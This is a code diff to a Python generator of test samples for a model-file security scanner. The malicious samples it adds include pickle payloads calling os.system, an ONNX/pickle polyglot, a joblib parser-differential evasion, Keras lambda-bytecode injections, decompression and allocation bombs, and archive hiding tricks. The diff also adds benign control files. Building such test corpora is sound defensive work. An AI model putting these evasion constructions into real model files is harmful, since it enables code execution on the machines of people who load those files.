@@ -1681,6 +1681,18 @@ def _pickle_gadgets(c: Corpus) -> None:
             "torch._tensor._rebuild_from_type_v2 calls its func argument",
             "novel",
         ),
+        (
+            "thirdparty_pymongo_client",
+            pk(call(g("pymongo", "MongoClient"), "mongodb://127.0.0.1:9/"), 2),
+            "pymongo.MongoClient(url): opens a network connection at load (value-call shape)",
+            "novel",
+        ),
+        (
+            "thirdparty_pandas_hdfstore",
+            pk(call(g("pandas", "HDFStore"), "/tmp/bastion-corpus.h5"), 2),
+            "pandas.HDFStore(path): creates/opens a file at load (value-call shape)",
+            "novel",
+        ),
     ]
     for name, data, technique, ref in gadgets:
         c.bad(f"gadget/{name}.pkl", data, cls, technique, ref)
@@ -1992,6 +2004,12 @@ def _pickle_bombs(c: Corpus) -> None:
         proto(4) + b"\x95" + struct.pack("<Q", (1 << 62) - 1) + enc(1) + STOP,
         cls,
         "FRAME declares ~2**62 bytes",
+    )
+    c.bad(
+        "bomb/bytes_allocation.pkl",
+        pk(call(sg("builtins", "bytes"), 1 << 40)),
+        cls,
+        "builtins.bytes(2**40): a 1 TiB allocation at load time",
     )
     c.bad(
         "bomb/bytearray_allocation.pkl",
@@ -2357,6 +2375,12 @@ def _pytorch_zip(c: Corpus) -> None:
         cls,
         "zip preceded by 128 junk bytes (offsets shifted)",
     )
+    c.bad(
+        "pytorch/upper_case_data_pkl.pt",
+        zip_bytes([(n.replace("data.pkl", "DATA.PKL"), d) for n, d in base]),
+        cls,
+        "the pickle member is named archive/DATA.PKL (case-insensitive lookups still find it)",
+    )
 
 
 # ---- PyTorch legacy (non-zip and tar) ---------------------------------------------------------
@@ -2430,6 +2454,76 @@ def _joblib_dump(obj: Any, compress_arg: Any = 0, protocol: int | None = None) -
     return data
 
 
+def xxh32(data: bytes, seed: int = 0) -> int:
+    """xxHash32 (for LZ4 frame header checksums)."""
+    p1, p2, p3, p4, p5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
+    mask = 0xFFFFFFFF
+
+    def rotl(x: int, r: int) -> int:
+        return ((x << r) | (x >> (32 - r))) & mask
+
+    n = len(data)
+    i = 0
+    if n >= 16:
+        v = [(seed + p1 + p2) & mask, (seed + p2) & mask, seed & mask, (seed - p1) & mask]
+        while i <= n - 16:
+            for k in range(4):
+                lane = int.from_bytes(data[i + 4 * k : i + 4 * k + 4], "little")
+                v[k] = (rotl((v[k] + lane * p2) & mask, 13) * p1) & mask
+            i += 16
+        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) + rotl(v[3], 18)) & mask
+    else:
+        h = (seed + p5) & mask
+    h = (h + n) & mask
+    while i + 4 <= n:
+        h = (rotl((h + int.from_bytes(data[i : i + 4], "little") * p3) & mask, 17) * p4) & mask
+        i += 4
+    while i < n:
+        h = (rotl((h + data[i] * p5) & mask, 11) * p1) & mask
+        i += 1
+    h ^= h >> 15
+    h = (h * p2) & mask
+    h ^= h >> 13
+    h = (h * p3) & mask
+    h ^= h >> 16
+    return h
+
+
+def lz4_frame_stored(data: bytes) -> bytes:
+    """An LZ4 frame whose blocks are stored uncompressed (valid for any LZ4 frame reader)."""
+    descriptor = bytes([0x60, 0x40])  # version 1, independent blocks; 64 KiB blocks
+    out = bytearray(b"\x04\x22\x4d\x18" + descriptor + bytes([(xxh32(descriptor) >> 8) & 0xFF]))
+    for i in range(0, len(data), 65536):
+        block = data[i : i + 65536]
+        out += struct.pack("<I", len(block) | 0x80000000) + block
+    out += b"\x00\x00\x00\x00"
+    return bytes(out)
+
+
+def joblib_dtype_desync(payload: bytes, n: int = 8) -> bytes:
+    """A joblib stream that a scanner trusting the dtype state's ``elsize`` parses differently.
+
+    The array's dtype is ``numpy.dtype('f8')`` with a ``BUILD`` state claiming ``elsize=4``.
+    NumPy ignores ``elsize`` for built-in types, so joblib reads ``8*n`` array bytes; a parser
+    that believes the state reads ``4*n`` and then sees a BINBYTES literal that swallows the
+    payload joblib executes. Both views end with the same tail and neither has trailing data.
+    """
+    import numpy as np
+
+    base = _joblib_dump({"w": np.zeros(n), "tag": "BASTION_MARKER_3"}, protocol=2)
+    i = base.index(b"NNNJ\xff\xff\xff\xff")
+    base = base[: i + 3] + b"J\x04\x00\x00\x00" + base[i + 8 :]
+    j = base.index(b"numpy_array_alignment_bytes")
+    k = base.index(b"ub", j) + 2
+    start = k + 1 + base[k]
+    tail = base[start + 8 * n :]
+    assert tail[:1] == b"X", tail[:16]
+    end = start + 8 * n + len(payload)
+    literal = end - (start + 4 * n + 5)
+    region = bytes(4 * n) + b"B" + struct.pack("<I", literal) + bytes(4 * n - 5) + payload
+    return base[:start] + region + POP + tail
+
+
 def _joblib(c: Corpus) -> None:
     import numpy as np
 
@@ -2487,6 +2581,29 @@ def _joblib(c: Corpus) -> None:
         cls,
         "a fitted LogisticRegression with a payload injected before STOP, gzip-compressed",
         "fickling --inject",
+    )
+    desync_payload = b"cposix\nsystem\n(V" + CMD.encode() + b"\ntR"
+    c.bad(
+        "joblib/dtype_elsize_desync.joblib",
+        joblib_dtype_desync(desync_payload),
+        cls,
+        "dtype('f8') with a BUILD state claiming elsize=4: joblib reads 8 bytes per item, a "
+        "scanner trusting elsize reads 4 and parses a different opcode stream",
+        "novel (parser differential)",
+    )
+    c.bad(
+        "joblib/dtype_elsize_desync_gz.joblib",
+        compress(joblib_dtype_desync(desync_payload, 16), "gz"),
+        cls,
+        "the same differential, 16 items, gzip-compressed",
+        "novel (parser differential)",
+    )
+    c.bad(
+        "joblib/payload_lz4.joblib",
+        lz4_frame_stored(plain),
+        cls,
+        "joblib lz4-compressed pickle payload (LZ4 frame, joblib's fifth compressor)",
+        "joblib compressor list",
     )
 
 
@@ -2566,6 +2683,17 @@ def _numpy(c: Corpus) -> None:
         cls,
         ".npz whose member is a bare pickle",
     )
+    for name, descr in (
+        ("descr_object_word", "object"),
+        ("descr_nested_struct", [("a", [("b", "|O")])]),
+        ("descr_subarray_tuple", ("O", (2,))),
+    ):
+        c.bad(
+            f"numpy/{name}.npy",
+            npy_bytes({"descr": descr, "fortran_order": False, "shape": (1,)}, payload),
+            cls,
+            f"object dtype spelt {descr!r} in the header",
+        )
 
 
 # ---- safetensors ------------------------------------------------------------------------------
@@ -3297,6 +3425,70 @@ def _keras(c: Corpus) -> None:
         "HDF5 model referencing an unregistered custom layer from attacker_pkg",
         "novel",
     )
+    act = {
+        "class_name": "__lambda__",
+        "config": {"code": _klambda_code(), "defaults": None, "closure": None},
+    }
+    c.bad(
+        "keras/lambda_as_activation.keras",
+        _keras_zip(
+            _ksequential(
+                [_kinput([None, 4]), _kdense("dense", 8, activation=act), _kdense("dense_1", 2)]
+            ),
+            w,
+        ),
+        cls,
+        "__lambda__ bytecode as a Dense layer's activation (no Lambda layer at all)",
+        "CVE-2024-3660",
+    )
+    clean_seq = _ksequential([_kinput([None, 4]), _kdense("dense", 8), _kdense("dense_1", 2)])
+    compile_cfg = {
+        **clean_seq,
+        "compile_config": {"optimizer": "adam", "loss": act, "metrics": None},
+    }
+    c.bad(
+        "keras/lambda_in_compile_config.keras",
+        _keras_zip(compile_cfg, w),
+        cls,
+        "__lambda__ bytecode as the loss in compile_config",
+        "CVE-2024-3660",
+    )
+    import numpy as np
+
+    def fill_bytes_attr(fh: Any) -> None:
+        fh.attrs["keras_version"] = "2.13.1"
+        fh.attrs["backend"] = "tensorflow"
+        config = _keras2_sequential([_keras2_dense("dense", 8, 4), lam2])
+        fh.attrs["model_config"] = np.bytes_(json.dumps(config).encode())
+        fh.create_group("model_weights")
+
+    c.bad(
+        "keras/h5_config_as_bytes.h5",
+        _h5(fill_bytes_attr),
+        cls,
+        "HDF5 model_config stored as a bytes attribute (Keras decodes it) with a Lambda",
+        "CVE-2025-9905",
+    )
+
+    def fill_training(fh: Any) -> None:
+        fh.attrs["keras_version"] = "2.13.1"
+        fh.attrs["backend"] = "tensorflow"
+        fh.attrs["model_config"] = json.dumps(_keras2_sequential([_keras2_dense("dense", 2, 2)]))
+        fh.attrs["training_config"] = json.dumps(
+            {
+                "loss": act,
+                "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.001}},
+            }
+        )
+        fh.create_group("model_weights")
+
+    c.bad(
+        "keras/h5_lambda_in_training_config.h5",
+        _h5(fill_training),
+        cls,
+        "HDF5 training_config whose loss is __lambda__ bytecode (run by compile on load)",
+        "CVE-2025-9905",
+    )
 
 
 # ---- archives nested in archives --------------------------------------------------------------
@@ -3466,11 +3658,11 @@ def _archives(c: Corpus) -> None:
                 RawMember(
                     f"shard{i:03d}.bin".encode(), deflated, method=8, crc=zcrc, usize=len(zeros_64m)
                 )
-                for i in range(160)
+                for i in range(272)
             ]
         ),
         cls,
-        "160 members of 64 MiB each: 10 GiB when extracted",
+        "272 members of 64 MiB each: 17 GiB when extracted",
         "issue brief (total size)",
     )
     c.bad(
@@ -3540,9 +3732,60 @@ def _archives(c: Corpus) -> None:
         cls,
         "pickle deep in a tar's folders with a .bin name",
     )
+    hdr = {"descr": "|O", "fortran_order": False, "shape": (1,)}
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_LZMA) as zf:
+        info = zipfile.ZipInfo("labels.npy", date_time=_ZIP_DATE)
+        info.compress_type = zipfile.ZIP_LZMA
+        zf.writestr(info, npy_bytes(hdr, pk(system_call("global"), 3)))
+    c.bad(
+        "archive/npz_lzma_member.npz",
+        buf.getvalue(),
+        cls,
+        ".npz whose object-array member is LZMA-compressed (zipfile reads it, miniz does not)",
+    )
+    c.bad(
+        "archive/zip_method_zstd.zip",
+        raw_zip(
+            [
+                RawMember(
+                    b"model.pkl",
+                    b"\x28\xb5\x2f\xfd" + payload,
+                    method=93,
+                    crc=zlib.crc32(payload),
+                    usize=len(payload),
+                )
+            ]
+        ),
+        cls,
+        "member compressed with method 93 (Zstandard, read by Python 3.14 zipfile): "
+        "cannot be examined here, must fail closed",
+    )
+    half = len(payload) // 2
+    c.bad(
+        "archive/gzip_two_members_split_pickle.pkl.gz",
+        gzip_bytes(payload[:half]) + gzip_bytes(payload[half:]),
+        cls,
+        "pickle split across two gzip members (gzip readers concatenate them)",
+    )
 
 
 # ---- polyglots ---------------------------------------------------------------------------------
+
+
+def onnx_pickle_polyglot(payload: bytes) -> bytes:
+    """An ONNX ModelProto that is also a pickle running ``payload`` (binary opcodes + STOP).
+
+    Protobuf reads: field 5 (model_version = 78), field 6 (doc_string of 85 bytes), then the
+    real model. Pickle reads the same bytes as MARK, NONE, DUP, SHORT_BINSTRING (which skips
+    the first bytes of the doc string), then ``payload`` from inside the doc string.
+    """
+    length = 0x55  # the doc string's length byte is also the SHORT_BINSTRING opcode 'U'
+    skip = 10
+    doc = bytes([skip]) + bytes(skip) + payload
+    assert len(doc) <= length
+    doc += b" " * (length - len(doc))
+    return b"\x28\x4e\x32" + bytes([length]) + doc + _onnx_model(_onnx_graph()).SerializeToString()
 
 
 def _polyglots(c: Corpus) -> None:
@@ -3597,6 +3840,31 @@ def _polyglots(c: Corpus) -> None:
         ),
         cls,
         "pickle followed by a safetensors file",
+    )
+    benign_b = torch_save({"w": torch.zeros(2)})
+    c.bad(
+        "polyglot/torch_zip_then_benign_zip.pt",
+        _torch_zip(payload) + benign_b,
+        cls,
+        "malicious PyTorch zip followed by a complete benign one: torch.load reads the first "
+        "archive, zipfile/numpy (and end-of-file directory readers) the second",
+        "novel (parser differential)",
+    )
+    c.bad(
+        "polyglot/onnx_pickle.onnx",
+        onnx_pickle_polyglot(bytes(call(sg("os", "system"), CMD)) + STOP),
+        cls,
+        "valid ONNX model (onnx.load + checker pass) whose first protobuf fields are also a "
+        "pickle: pickle.load/torch.load/np.load(allow_pickle) of the file run os.system",
+        "novel",
+    )
+    c.bad(
+        "polyglot/tar_member_name_pickle.tar",
+        tar_bytes([("cos\nsystem\n(S'true'\ntR.", b"hello\n"), ("README.md", b"# model\n")]),
+        cls,
+        "valid tar whose first member name is a protocol-0 pickle: pickle.load and "
+        "np.load(allow_pickle=True) of the tar run it",
+        "novel",
     )
 
 
@@ -3833,6 +4101,21 @@ def _benign_pickles(c: Corpus) -> None:
         "user dataclass, user Enum, user object graph with a parent/child cycle",
         "pickle",
     )
+    import zoneinfo
+
+    c.good(
+        "benign/pickle/datetime_zoneinfo.pkl",
+        pickle.dumps(
+            {
+                "saved_at": datetime.datetime(2024, 5, 1, tzinfo=zoneinfo.ZoneInfo("UTC")),
+                "utc": datetime.datetime(2024, 5, 1, tzinfo=datetime.UTC),
+            },
+            protocol=4,
+        ),
+        cls,
+        "timestamps with ZoneInfo and timezone.utc (ZoneInfo pickles through getattr)",
+        "pickle",
+    )
     c.good(
         "benign/pickle/self_referencing_list.pkl",
         pickle.dumps(_self_list(), protocol=2),
@@ -3857,6 +4140,8 @@ def _self_list() -> list[Any]:
 
 
 def _benign_torch(c: Corpus) -> None:
+    import numpy as np
+
     torch = _torch()
     register_user_classes()
     mod = sys.modules[USER_MODULE]
@@ -3929,6 +4214,14 @@ def _benign_torch(c: Corpus) -> None:
         cls,
         "SGD with momentum buffers",
         "torch",
+    )
+    gen = torch.Generator().manual_seed(7)
+    c.good(
+        "benign/pytorch/generator_object.pt",
+        torch_save({"sampler_generator": gen, "numpy_rng": np.random.default_rng(3)}),
+        cls,
+        "a torch.Generator object and a NumPy Generator saved in a checkpoint (data-loader RNG)",
+        "torch-any",
     )
     c.good(
         "benign/pytorch/rng_state.pt",
@@ -4379,6 +4672,21 @@ def _benign_safetensors(c: Corpus) -> None:
         "safetensors",
     )
     c.good(
+        "benign/safetensors/float8_and_unsigned.safetensors",
+        torch_save_st(
+            {
+                "f8e4m3": torch.zeros(4, dtype=torch.float8_e4m3fn),
+                "f8e5m2": torch.zeros(4, dtype=torch.float8_e5m2),
+                "u16": torch.zeros(4, dtype=torch.uint16),
+                "u32": torch.zeros(4, dtype=torch.uint32),
+                "c64": torch.zeros(2, dtype=torch.complex64),
+            }
+        ),
+        cls,
+        "float8 (E4M3, E5M2), uint16/uint32 and complex64 tensors",
+        "safetensors",
+    )
+    c.good(
         "benign/safetensors/many_tensors.safetensors",
         torch_save_st({f"layers.{i}.weight": torch.full((4,), float(i)) for i in range(200)}),
         cls,
@@ -4477,6 +4785,22 @@ def _benign_onnx(c: Corpus) -> None:
         cls,
         "standard ai.onnx.ml domain operator (Normalizer)",
         "onnx",
+    )
+    g_ms = helper.make_graph(
+        [helper.make_node("FusedMatMul", ["a", "b"], ["y"], domain="com.microsoft", alpha=1.0)],
+        "ort_contrib",
+        [
+            helper.make_tensor_value_info("a", TensorProto.FLOAT, [2, 3]),
+            helper.make_tensor_value_info("b", TensorProto.FLOAT, [3, 2]),
+        ],
+        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2, 2])],
+    )
+    c.good(
+        "benign/onnx/ort_contrib_op/model.onnx",
+        _onnx_model(g_ms, [("com.microsoft", 1)]).SerializeToString(),
+        cls,
+        "onnxruntime contrib operator (com.microsoft FusedMatMul), as ORT optimizers write",
+        "onnxruntime",
     )
     c.good(
         "benign/onnx/named_model.onnx",
